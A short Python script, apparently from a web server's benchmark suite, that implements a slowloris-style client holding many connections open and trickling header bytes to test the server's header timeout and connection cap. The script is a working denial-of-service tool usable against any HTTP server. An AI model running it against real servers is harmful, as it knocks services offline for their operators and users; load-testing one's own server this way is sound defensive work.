#!/usr/bin/env python3
"""A slowloris-style client for bench/load.sh: holds N connections to HOST:PORT, each sending a
request's headers one byte every few seconds and never finishing them. When hale drops one
(its header timeout, or its per-client connection cap), it reconnects, as a real attacker
would. Prints, on SIGTERM, how many connections it opened and how many hale closed.

    slowloris.py HOST PORT COUNT [INTERVAL [SOURCE]]

SOURCE is the local address to connect from (e.g. 127.0.0.2), so that hale sees the attacker
as a client of its own, apart from the benchmark's other clients."""
import signal
import socket
import sys
import time

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
interval = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
source = (sys.argv[5], 0) if len(sys.argv) > 5 else None
opened = closed = 0
stop = False


def on_term(*_):
    global stop
    stop = True


signal.signal(signal.SIGTERM, on_term)


def connect():
    global opened
    s = socket.create_connection((host, port), source_address=source)
    s.setblocking(False)
    s.send(b"GET /metrics HTTP/1.1\r\nHost: bench\r\n")
    opened += 1
    return s


conns = []
while not stop:
    while len(conns) < count and not stop:
        try:
            conns.append(connect())
        except OSError:
            time.sleep(0.1)
            break
    alive = []
    for s in conns:
        try:
            s.send(b"X")
            alive.append(s)
        except OSError:
            closed += 1
            s.close()
    conns = alive
    time.sleep(interval)
print(f"slowloris: opened {opened} connections, hale closed {closed}", flush=True)
